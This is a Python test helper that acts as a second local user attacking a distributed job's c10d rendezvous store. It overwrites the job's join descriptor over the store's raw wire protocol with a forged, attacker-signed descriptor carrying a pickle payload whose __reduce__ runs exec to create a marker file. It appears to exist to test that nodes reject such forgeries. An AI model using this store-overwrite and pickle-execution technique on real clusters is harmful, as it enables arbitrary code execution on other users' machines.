"""Another local user's attack: overwrite a job's join descriptor in its rendezvous store.

The job's embedded c10d store listens where its nodes reach it, and any local
user can connect there: ``/usr/bin/python3 forge_descriptor.py HOST:PORT
RUN_ID FILE``, run as a second Unix user (tests/test_scheduled_nodes.py makes
one), writes FILE as the run's descriptor. It needs nothing but the standard
library (that user cannot read the project's interpreter under /root): it
speaks the store's wire protocol itself, as torch's TCPStore client does
(validate, ping, set). ``forged`` (run by the test's notebook side) builds the
descriptor: a payload that creates a marker file when it is unpickled,
signed with a key of the attacker's own.
"""

from __future__ import annotations

import socket
import struct
import sys

VALIDATE, SET, PING = 0, 1, 13
MAGIC = 0x3C85F7CE


class Pwn:
    """Unpickling this creates ``marker``: what a node must never do."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return exec, (f"open({self.marker!r}, 'w').write('ran code the job did not send')",)


def forged(endpoint: str, marker: str) -> str:
    import pickle

    from elastic_nb.kernel.planning import make_plan
    from elastic_nb.wire import auth
    from elastic_nb.wire.join import JoinDescriptor

    options = make_plan(print, (), {}, {}).options  # a job's options, as the real one has
    return JoinDescriptor(pickle.dumps(Pwn(marker)), endpoint, "token", options).to_json(
        auth.new_key())


def write(endpoint: str, run_id: str, path: str) -> None:
    host, port = endpoint.rsplit(":", 1)
    with open(path, "rb") as source:
        value = source.read()
    key = f"/elastic_nb/{run_id}/job".encode()
    with socket.create_connection((host, int(port)), timeout=10) as store:
        store.sendall(struct.pack("<BI", VALIDATE, MAGIC) + struct.pack("<BI", PING, 7))
        assert store.recv(4) == struct.pack("<I", 7), "not a c10d store"
        store.sendall(struct.pack("<BQ", SET, len(key)) + key + struct.pack("<Q", len(value))
                      + value)
        store.sendall(struct.pack("<BI", PING, 8))  # answered once the set was done
        assert store.recv(4) == struct.pack("<I", 8)
    print("forged", flush=True)


if __name__ == "__main__":
    write(*sys.argv[1:])
